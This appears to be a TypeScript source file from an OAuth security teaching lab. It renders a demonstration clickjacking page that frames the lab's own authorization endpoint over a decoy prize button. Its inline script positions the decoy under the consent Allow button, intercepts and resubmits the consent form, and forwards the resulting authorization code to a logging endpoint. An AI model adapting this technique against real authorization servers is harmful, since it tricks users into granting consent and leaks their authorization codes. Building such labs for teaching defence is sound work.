import { escapeHtml } from '../oauth-server/pages/html';
import type { Realm } from '../realms/types';
import { BACK_SCRIPT } from './back-link';
import { attackerPage, DECOY } from './page-shell';

/**
 * Mallory's clickjacking page, `GET /attacker/{realm}/clickjack?<authorization request>` (RFC 9700
 * §4.16, RFC 6749 §10.13): a decoy button with the realm's own authorization endpoint framed above it.
 * The frame's URL is always this realm's `/as/{realm}/authorize` with the OAuth parameters of the query
 * (nothing else is copied), so the page frames no URL a user chose. The browser, not this server,
 * decides whether the frame renders: from the AS's `frame-ancestors` and `X-Frame-Options`.
 *
 * Her script (same origin as the AS page, so it can read the frame's document):
 * - on every load of the frame, reports to `POST …/frame-check` whether the AS page rendered in it
 *   (a refused frame holds an opaque error document: `contentDocument` is null) and whether the
 *   consent page's Allow button is there; it then moves the decoy under that button;
 * - when Alice's click submits the framed consent form, sends that same form itself (same origin: it can read
 *   where the AS redirects, which a frame could not show, the client's callback page refusing to be framed) and
 *   passes the code to `GET …/framed-consent` (recorded in her log, the Attacker's console). A real attacker's own
 *   registered client would simply receive the code at her redirect URI.
 *
 * The frame is sandboxed without scripts (forms only): the AS pages work without script, and the lab's
 * own callback page, if Alice allows, does not run inside Mallory's frame. The frame is shown at half
 * opacity so the learner sees the trick; a real attack makes it invisible.
 */
const PARAMS = [
  'response_type',
  'client_id',
  'redirect_uri',
  'scope',
  'state',
  'code_challenge',
  'code_challenge_method',
  'nonce',
] as const;

const CLICKJACK_SCRIPT = [
  "(function(){var f=document.getElementById('frame'),d=document.getElementById('decoy'),s=document.getElementById('status');",
  "var base=location.pathname.split('/').slice(0,3).join('/');var done=false;",
  "function report(framed,consent){fetch(base+'/frame-check',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({framed:framed,consent:consent})});}",
  'function look(){var doc=null;try{doc=f.contentDocument;}catch(e){doc=null;}',
  "if(doc&&doc.location.href==='about:blank')return;",
  "if(!doc){report(false,false);s.textContent='The browser refused to show the authorization server\\u2019s page in Mallory\\u2019s frame: its headers forbid framing. There is nothing under the decoy to click.';d.disabled=true;return;}",
  "if(doc.location.pathname==='/flows/callback'){if(!done&&/[?&]code=/.test(doc.location.search)){done=true;fetch(base+'/framed-consent'+doc.location.search);}",
  "f.style.visibility='hidden';s.textContent='Alice\\u2019s click went to the framed Allow button: the authorization server sent its answer into Mallory\\u2019s frame, and her page passed it to her site.';return;}",
  'var allow=doc.querySelector(\'button[value="allow"]\');report(true,!!allow);',
  // The click lands on the framed form; the redirect it causes goes to the client's callback, a page that may not be framed,
  // so her same-origin script sends the form the click submitted itself and reads where the AS redirected.
  "if(allow&&allow.form&&!allow.form.dataset.watched){var form=allow.form;form.dataset.watched='1';form.addEventListener('submit',function(ev){ev.preventDefault();",
  "fetch(form.action,{method:'POST',body:new URLSearchParams(new FormData(form,ev.submitter)),credentials:'same-origin'}).then(function(r){var u=new URL(r.url);",
  "if(!done&&u.pathname==='/flows/callback'&&u.searchParams.get('code')){done=true;fetch(base+'/framed-consent'+u.search);}",
  "f.style.visibility='hidden';s.textContent='Alice\u2019s click went to the framed Allow button: the authorization server answered with a redirect carrying the code, and her page passed it to her site.';});});}",
  "if(allow){var r=allow.getBoundingClientRect();d.style.left=r.left+'px';d.style.top=r.top+'px';d.style.width=Math.max(r.width,120)+'px';d.style.height=Math.max(r.height,40)+'px';",
  "s.textContent='The consent page rendered inside Mallory\\u2019s frame. The decoy now sits exactly under its Allow button: press the prize button.';}",
  "else{s.textContent='The authorization server\\u2019s page rendered inside Mallory\\u2019s frame. In the lab, sign in as alice / wonderland inside the frame first.';}}",
  "f.addEventListener('load',look);setTimeout(function(){if(!f.dataset.seen)look();},5000);f.addEventListener('load',function(){f.dataset.seen='1';});})();",
].join('');

/** The stage on top of her site's look (page-shell.ts): the frame above the decoy. */
const STYLE = [
  '#stage{position:relative;width:100%;height:40rem;margin:1rem 0;background:var(--stage);border-radius:.5rem;overflow:hidden}',
  '#frame{position:absolute;left:0;top:0;width:100%;height:100%;border:0;opacity:.5;z-index:2;background:transparent}',
  `#decoy{position:absolute;left:1rem;bottom:1rem;z-index:1;font:700 1.1rem system-ui,sans-serif;padding:.5rem 1rem;border:0;border-radius:.5rem;background:${DECOY.bg};color:${DECOY.fg}}`,
  '#status{font-weight:600}',
].join('');

const PAGE_SCRIPT = `${CLICKJACK_SCRIPT}${BACK_SCRIPT}`;

/** The framed URL: this realm's authorization endpoint with only the OAuth parameters of Mallory's query. */
export function framedAuthorizeUrl(realm: Realm, query: URLSearchParams): string {
  const forwarded = new URLSearchParams();
  for (const name of PARAMS) {
    const value = query.get(name);
    if (value !== null) forwarded.set(name, value.slice(0, 2048));
  }
  return `/as/${encodeURIComponent(realm.id)}/authorize?${forwarded}`;
}

export function clickjackPage(realm: Realm, query: URLSearchParams): Response {
  const src = framedAuthorizeUrl(realm, query);
  return attackerPage({
    title: 'Mallory’s site: claim your prize',
    body: `<h1>Mallory’s site: you have won a prize!</h1>
<p class="lab">Lab view: the authorization server’s page is framed above the red decoy at half opacity, so you can see the trick;
a real attack makes the frame invisible (opacity 0). Alice is usually already signed in at her authorization server; in the lab, sign in inside the frame first.</p>
<div id="stage"><button id="decoy" type="button">Claim your prize</button>
<iframe id="frame" title="The authorization server’s page, framed by Mallory" sandbox="allow-forms allow-same-origin" src="${escapeHtml(src)}"></iframe></div>
<p id="status" role="status">Loading the framed page…</p>
<p>Lab realm <code>${escapeHtml(realm.id)}</code>. <a id="back" href="/attacks">Back to the lab</a></p>`,
    script: PAGE_SCRIPT,
    style: STYLE,
    csp: ["frame-src 'self'", "connect-src 'self'"],
  });
}
